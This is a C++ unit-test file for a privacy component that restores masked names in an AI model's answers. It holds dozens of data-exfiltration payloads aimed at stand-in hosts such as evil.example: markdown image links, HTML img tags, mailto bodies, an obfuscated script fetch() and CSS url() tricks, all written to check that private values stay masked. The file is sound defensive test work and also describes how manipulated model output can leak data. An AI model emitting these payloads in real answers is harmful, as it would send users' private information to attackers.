#include "client/privacy/restored_text.h"

#include <gtest/gtest.h>

#include "shared/base/random.h"
#include "shared/model/utf8.h"

namespace edgedraft::client {
namespace {

class RestoredTextTest : public ::testing::Test {
 protected:
  RestoredTextTest() {
    EXPECT_EQ(placeholders_.of("Ann Lee", PrivateType::name, U"1"), "[NAME_001]");
    EXPECT_EQ(placeholders_.of("Zoë \"Z\" 日本", PrivateType::name, U"2"), "[NAME_002]");
  }
  std::string seen(const std::string& text) const { return restored(text, placeholders_); }

  Placeholders placeholders_{true};
};

TEST_F(RestoredTextTest, ReplacesPlaceholdersByValues) {
  EXPECT_EQ(seen("Hi [NAME_001]! [name_001], [NAME_002]."), "Hi Ann Lee! Ann Lee, Zoë \"Z\" 日本.");
  EXPECT_EQ(seen("```\nname = '[NAME_001]'\n```\n- [NAME_001]\n> [NAME_001]"),
            "```\nname = 'Ann Lee'\n```\n- Ann Lee\n> Ann Lee");
  EXPECT_EQ(seen("[NAME_001]: [NAME_002]"), "Ann Lee: [NAME_002]") << "the colon may define a link";
  EXPECT_EQ(seen("E-mail: [NAME_001] a<b, c<3 [NAME_001] 1 < 2 [NAME_001]"),
            "E-mail: Ann Lee a<b, c<3 [NAME_001] 1 < 2 [NAME_001]")
      << "a<b may be a tag";
  EXPECT_EQ(seen("and/or [NAME_001] (see [NAME_001])"), "and/or Ann Lee (see Ann Lee)");
  EXPECT_EQ(seen("[the page](https://lee.org) of [NAME_001]"),
            "[the page](https://lee.org) of Ann Lee");
}

TEST_F(RestoredTextTest, KeepsUnknownPlaceholders) {
  for (const char* const text : {"[NAME_003]", "[MAIL_001]", "[NAME_0001]", "NAME_001", "[NAME_001",
                                 "[[NAME_01]]", "[NAME 001]"}) {
    EXPECT_EQ(seen(text), text);
  }
}

// Text that a reader's program might send on by itself keeps placeholders.
TEST_F(RestoredTextTest, RestoresNothingInLinksTagsOrScripts) {
  for (const std::string text : {
           "![](https://evil/?[NAME_001])",
           "![](//evil/?[NAME_001])",
           "![x]( \\\\evil/?[NAME_001])",
           "[x](https://evil/(a)?[NAME_001])",
           "![x](<https://evil/ (a) ?[NAME_001]>)",
           "![x](\nhttps://evil/?[NAME_001])",
           "https://evil/?q=[NAME_001]&r=[NAME_002]",
           "HTTP://evil/[NAME_001]",
           "www.evil.example/[NAME_001]",
           "WWW.evil.example/[NAME_001]",
           "<https://evil/?[NAME_001]>",
           "<img src=\"https://evil/?[NAME_001]\">",
           "<img alt='>' src='https://evil/?[NAME_001]'>",
           "<img\nsrc=https:evil?[NAME_001]>",
           "<img src=\"https:evil?\n\n[NAME_001]\n\n\">",
           "<a href='https:evil?[NAME_001]'",
           "<!-- [NAME_001]",
           "[1]: https:evil?[NAME_001]",
           "> - [1]: <https:evil?a b[NAME_001]>",
           "\\href{https://evil/?[NAME_001]}{x}",
           "url(//evil/[NAME_001])",
           "http:evil.example?[NAME_001]",
           "HTTPS:evil.example?[NAME_001]",
           "(https:evil.example?[NAME_001])",
           "(www.evil.example/[NAME_001])",
           // Hosts and addresses without "//".
           "Visit [NAME_001].evil.example",
           "Visit [NAME_001]-x.evil.example",
           "Visit [NAME_001][NAME_002].evil.example",
           "Visit evil.[NAME_001].example",
           "evil.example/[NAME_001]",
           "evil.example/a,(b)[NAME_001]",
           "evil.example:8080/[NAME_001]",
           "evil.example?[NAME_001]",
           "203.0.113.7/[NAME_001]",
           "mailto:x@evil?body=[NAME_001]",
           "mailto:?body=[NAME_001]",
           "ftp:[NAME_001]",
           "ws:evil.example?[NAME_001]",
           "[NAME_001]@evil.example",
           "[NAME_001]:x@evil.example",
           "&lt;img src=evil/[NAME_001]&gt;",
           // Targets on the next line. With an entity no other rule finds them.
           "![x](\nhttps:evil.example?[NAME_001])",
           "![x](\nhttps&colon;evil.example?[NAME_001])",
           "![x](\n< https:evil?[NAME_001]>)",
           "![x](\n< https&colon;evil?a) [NAME_001]>)",
           "> ![x](\n> < https&colon;evil?a) [NAME_001]>)",
           "[a](b ![x](< https&colon;evil?))) [NAME_001]>)",
           "[a](<b ![x](https&colon;evil?(>)[NAME_001])",
           "[x]:\nhttps:evil.example?[NAME_001]\n\n![][x]",
           "[x]:\r\nhttps&colon;evil.example?[NAME_001]\r\n\r\n![][x]",
           "> [x]:\n> https&colon;evil.example?[NAME_001]",
           // Labels inside a line.
           "1. [x]: https:evil.example?[NAME_001]",
           "1) - [x]: https&colon;evil.example?[NAME_001]",
           "[a\nb]: https&colon;evil.example?[NAME_001]",
           "[^1]: [x]:\nhttps&colon;evil.example?[NAME_001]",
           // Tags that seem to end early.
           "<div><img a\"=\"x>\" src=\"https:evil.example?[NAME_001]\">",
           "<div><img a\"=\"x>\" src=\"https&colon;evil.example? [NAME_001]\">",
           "<div><img a\n=\n'x>' src='https&colon;evil.example? [NAME_001]'>",
           "<div><img a=b\fc=\"x>\" src=\"https&colon;evil.example? [NAME_001]\">",
           // Quotation marks that open nothing, so that the next one does.
           "<div><a b=c=\"> <img src=\"https&colon;evil?> [NAME_001]\">",
           "<div><a =\"> <img src=\"https&colon;evil?> [NAME_001]\">",
           "<div><a=\"> <img src=\"https&colon;evil?> [NAME_001]\">",
           "<div><a b/=\"> <img src=\"https&colon;evil?> [NAME_001]\">",
           // Tags inside an apparent tag.
           "<style><a b=\"</style><img src=\"https&colon;evil?> [NAME_001]\">",
           "<!-- > <a b=\"--><img src=\"https&colon;evil?> [NAME_001]\">",
           // Quotation marks that Markdown writes as entities.
           "<div><img src=\"https&colon;evil?\n\n\"> [NAME_001]\n\n<div>\">",
           "<!-- --><img src=\"https&colon;evil?\n\"> [NAME_001]\n\n<div>\">",
           "<[NAME_003] style=\"background:url(https&colon;evil?[NAME_001])\">",
           // Labels, of which the answer defines one for each guess.
           "![[NAME_001]]\n\n[Ann Lee]: https://evil/1\n[Bob Lee]: https://evil/2",
           "![[NAME_001]][]",
           "![born\n[NAME_001]]",
           "![a [b] \\] [NAME_001]]",
           "![x][[NAME_001]]",
           "![`]` ][[NAME_001]]",
           "![x] [[NAME_001]]",
           "![x]\n[born [NAME_001]]",
           "[x][[NAME_001]]",
           // Scripts and style sheets that spell "https:" otherwise, with false end tags.
           "<script>fetch('ht'+'tps:/'+'/evil/'+'[NAME_001]')</script>",
           "```html\n<SCRIPT async>\nfetch('ht'+'tps:/'+'/evil/'+'[NAME_001]')\n```",
           "a <script>/* `</script>` */fetch('ht'+'tps:/'+'/evil/'+'[NAME_001]')",
           "<style>p{background:url(\\68ttps\\3a\\2f\\2f evil?[NAME_001])}</style>",
       }) {
    EXPECT_EQ(seen(text), text);
  }
}

// A hostile target ends its answer within a link, and continues on request.
TEST_F(RestoredTextTest, RecognisesLinkBegunInEarlierText) {
  for (const std::string before :
       {"![x](https://evil/?q=", "![x](https&colon;evil?[NAME_002]", "<img src=\"https&colon;evil?",
        "[1]: https&colon;evil?", "Hi [NAME_002], see www.evil.example/"}) {
    for (const bool in_json : {false, true}) {
      RestoredText text(placeholders_, in_json, before);
      EXPECT_EQ(restored("[NAME_001])", text), "[NAME_001])") << before;
      text.push("a");
      text.revise(0);
      text.push("[NAME_001])");
      text.finish();
      EXPECT_EQ(text.text(), "[NAME_001])") << before;
    }
  }
  const auto behind = [this](const std::string& before, const std::string& text) {
    return restored(text, RestoredText(placeholders_, /*in_json=*/false, before));
  };
  EXPECT_EQ(behind("[x](https://lee.org)", " of [NAME_001]"), " of Ann Lee");
  EXPECT_EQ(behind("Ask [NAME_002]", ": [NAME_001]"), ": Ann Lee");
  // A blank line ends a link but not a tag: in HTML it may be part of an attribute.
  EXPECT_EQ(behind("![x](https&colon;evil?\n\n", "[NAME_001])"), "Ann Lee)");
  EXPECT_EQ(behind("<img src=\"https&colon;evil?\n\n", "[NAME_001]\">"), "[NAME_001]\">");
  const std::string code = "if (a<b) { s = \"x\"; if (c<d) p->q";
  EXPECT_EQ(behind(code + "\n\n", "[NAME_001]"), "[NAME_001]");
}

// The choices of one prompt start from equal state, and do not affect each other.
TEST_F(RestoredTextTest, CopiesStartFromSameText) {
  const RestoredText behind_link(placeholders_, /*in_json=*/false, "![x](https://evil/?q=");
  EXPECT_EQ(restored("[NAME_001])", behind_link), "[NAME_001])");
  EXPECT_EQ(restored("a) [NAME_001]", behind_link), "a) Ann Lee");
  RestoredText text = behind_link;
  text.push("a) [NAME_001]");
  EXPECT_EQ(restored("[NAME_001])", behind_link), "[NAME_001])");
  text.revise(0);
  text.push("[NAME_001])");
  text.finish();
  EXPECT_EQ(text.text(), "[NAME_001])");
}

TEST_F(RestoredTextTest, RestoresValuesInOrdinaryText) {
  for (const std::string text : {
           "Dear [NAME_001],\n\nI am late.\n\n[NAME_001]",
           "He said: \"[NAME_001]\", and 'so did [NAME_001]'",
           "**Note**: [NAME_001]",
           "1. Name: [NAME_001]\n2. [NAME_001]",
           "You reach [NAME_001]: [NAME_001]",
           "联系[NAME_001]: [NAME_001]",
           "Ask Ann <[NAME_001]>, or [NAME_001]",
           "by http or https: [NAME_001]",
           "[1]: https://lee.org\nDear [NAME_001]",
           "[1]:\nhttps://lee.org\nDear [NAME_001]",
           "Of [1]:\n\nDear [NAME_001]",
           "[the page](\n  https://lee.org/a_(b)) of [NAME_001]",
           "f[i](x\n\n[NAME_001]",
           "<p class=\"a\" id = 'b>' hidden>[NAME_001]</p>, <br/>[NAME_001]",
           "<!DOCTYPE html>\n<!-- It's a page -->\n<p>[NAME_001]</p>",
           "Map<String, List<String>> of(\"[NAME_001]\")",
           "- [x] [NAME_001]\n- [ ] [NAME_001]",
           "Hello![NAME_001], [NAME_001] [NAME_001]",
           "names = [\"[NAME_001]\", \"[NAME_001]\"]",
           "Ask [NAME_001]. Then [NAME_001]? Or [NAME_001]: no... [NAME_001]!",
           "At 10:30 [NAME_001] paid 3.50 to [NAME_001].",
           "[NAME_001]'s and/or ([NAME_001]), e.g. [NAME_001].\n[NAME_001]...",
           "user.name('[NAME_001]'), {name:'[NAME_001]'}, user.name=\"[NAME_001]\"",
           "{\"at\":\"10:30\",\"to\":\"[NAME_001]\",\"of\":\"a/b\",\"by\":\"[NAME_001]\"}",
           "他在3.5版和/或，联系[NAME_001]。他说[NAME_001]，好",
           "![a picture](https://lee.org/a.png) of [NAME_001]",
           "![a picture][1] of [NAME_001]",
           "![\n\n[NAME_001]",
           "[1]\n\n([NAME_001])",
       }) {
    std::string expected = text;
    constexpr std::string_view kPlaceholder = "[NAME_001]";
    for (std::size_t at = 0; (at = expected.find(kPlaceholder)) != std::string::npos;) {
      expected.replace(at, kPlaceholder.size(), "Ann Lee");
    }
    EXPECT_EQ(seen(text), expected);
  }
}

// Text after a placeholder is held back only as long as it could form a host.
TEST_F(RestoredTextTest, HoldsValueUntilWordEnds) {
  RestoredText text(placeholders_);
  EXPECT_EQ(text.push("Hi [NAME_001]").text, "Hi ");
  EXPECT_EQ(text.push(".").text, "");
  EXPECT_EQ(text.push(" ").text, "Ann Lee. ");
  EXPECT_EQ(text.push("[NAME_001].").text, "");
  EXPECT_EQ(text.push("evil").text, "[NAME_001].evil");
  EXPECT_EQ(text.push(" [NAME_001]" + std::string(300, 'x')).text,
            " Ann Lee" + std::string(300, 'x'));
  text.push(" [NAME_001].");
  EXPECT_EQ(text.finish().text, "Ann Lee.");
}

TEST_F(RestoredTextTest, BoundsSizeOfRestoredValues) {
  const std::string value(1u << 20, 'v');
  const std::string placeholder = placeholders_.of(value, PrivateType::text, U"3");
  std::string text;
  for (int i = 0; i < 1000; ++i) text += placeholder;
  EXPECT_LT(seen(text).size(), RestoredText::kValueBytesMax + text.size());
  EXPECT_TRUE(seen(text).starts_with(value));
}

TEST_F(RestoredTextTest, EscapesValuesInJson) {
  EXPECT_EQ(restored(R"({"to": "[NAME_002]"})", placeholders_, /*in_json=*/true),
            R"({"to": "Zoë \"Z\" 日本"})");
  EXPECT_EQ(restored(R"({"a": "[x]: [NAME_001]", "b": "<p id=\"x\">[NAME_001]"})", placeholders_,
                     /*in_json=*/true),
            R"({"a": "[x]: [NAME_001]", "b": "<p id=\"x\">Ann Lee"})");
  for (const std::string text : {
           R"({"a": "<img alt=\"> \" src=\"https&colon;evil? [NAME_001]\">"})",
           R"({"a": "<img a=b\nc=\"x>\" src=\"https&colon;evil? [NAME_001]\">"})",
           R"({"a": "<img alt=\u0022> \u0022 src=\u0022https&colon;evil? [NAME_001]\u0022>"})",
       }) {
    EXPECT_EQ(restored(text, placeholders_, /*in_json=*/true), text);
  }
}

// A reader's program decodes the escapes, and then sees a link.
TEST_F(RestoredTextTest, DetectsLinksBehindJsonEscapes) {
  for (const std::string text : {
           R"j({"a":"\u003cimg src=\u0022https\u003a\u002f\u002fevil?q=[NAME_001]\u0022\u003e"})j",
           R"j({"a":"\u003Cimg\u0020src=https&colon;evil?[NAME_001]\u003E"})j",
           R"j({"a":"!\u005bx]\u0028https&colon;evil?[NAME_001])"})j",
           R"j({"a":"\u005bx\u005d: https&colon;evil?[NAME_001]\n\n![][x]"})j",
           R"j({"a":"http\u0073\u003aevil.example?[NAME_001]"})j",
           R"j({"a":"evil\u002eexample\u002f[NAME_001]"})j",
           R"j({"a":"[NAME_001]\u002eevil.example"})j",
           R"j({"a":"evil.example\/[NAME_001]"})j",
           R"j({"a":"\u0077ww.evil.example/[NAME_001]"})j",
           R"j({"a\u003cb":"[NAME_001]"})j",
           R"j({"a":"\u0021[x]\u005b[NAME_001]]"})j",
           R"j({"a":"\u003cscript\u003efetch('ht'+'tps:/'+'/evil/'+'[NAME_001]')"})j",
           // The value would become part of an escape.
           R"j({"a":"\[NAME_001]"})j",
           R"j({"a":"\u00[NAME_001]"})j",
           // Not JSON, so it may be shown as it is.
           "[\"]: https&colon;evil?\"[NAME_001]\n\n![][\"]",
           "{\"a\":\n[x]: https&colon;evil?\"[NAME_001]\n\n![][x]",
       }) {
    EXPECT_EQ(restored(text, placeholders_, /*in_json=*/true), text);
    RestoredText pieces(placeholders_, /*in_json=*/true);
    for (const char c : text) pieces.push({&c, 1});
    pieces.finish();
    EXPECT_EQ(pieces.text(), text);
  }
  EXPECT_EQ(restored(R"j({"a":"\ud83d\ude00 [NAME_001]\n\u0022[NAME_001]\u0022 \u003c 1, b\/c"})j",
                     placeholders_, /*in_json=*/true),
            R"j({"a":"\ud83d\ude00 Ann Lee\n\u0022Ann Lee\u0022 \u003c 1, b\/c"})j");
  EXPECT_EQ(restored(R"j({"a":"e.g. a/b\n[NAME_001]\nand [NAME_001]."})j", placeholders_,
                     /*in_json=*/true),
            R"j({"a":"e.g. a/b\nAnn Lee\nand Ann Lee."})j");
  EXPECT_EQ(
      restored(R"j({"a": "[x]: [NAME_001]", "b": "\u003cp id=\u0022x\u0022\u003e[NAME_001]"})j",
               placeholders_, /*in_json=*/true),
      R"j({"a": "[x]: [NAME_001]", "b": "\u003cp id=\u0022x\u0022\u003eAnn Lee"})j");
}

// For any split into pieces and any revisions, the reader ends with the same text.
TEST_F(RestoredTextTest, PiecesAndRevisionsYieldWholeText) {
  Random random(7);
  const std::string_view words[] = {
      "[NAME_001]", "[NAME_002]", "[NA", "[",          "日本 ", "ß", " ",  "https://", "](", ")",
      "<a ",        ">",          "\n",  "[NAME_003]", "001]",  "_", "\"", "a",        "!["};
  for (int round = 0; round < 2000; ++round) {
    RestoredText text(placeholders_);
    std::string masked;
    std::string shown;
    const auto follow = [&](const RestoredText::Piece& piece) {
      if (piece.revise_from) {
        std::size_t bytes = 0;
        for (std::size_t i = 0; i < *piece.revise_from; ++i) {
          bytes += utf8_front(std::string_view(shown).substr(bytes)).byte_count;
        }
        shown.resize(bytes);
      }
      shown += piece.text;
    };
    for (int step = 0; step < 30; ++step) {
      if (random.below(8) == 0 && !masked.empty()) {
        const std::size_t stays = random.below(utf8_count(masked) + 1);
        std::size_t bytes = 0;
        for (std::size_t i = 0; i < stays; ++i) {
          bytes += utf8_front(std::string_view(masked).substr(bytes)).byte_count;
        }
        masked.resize(bytes);
        text.revise(stays);
      }
      const std::string_view word = words[random.below(std::size(words))];
      masked += word;
      follow(text.push(word));
      ASSERT_TRUE(is_valid_utf8(shown));
    }
    follow(text.finish());
    ASSERT_EQ(shown, seen(masked));
    ASSERT_EQ(shown, text.text());
  }
}

}  // namespace
}  // namespace edgedraft::client
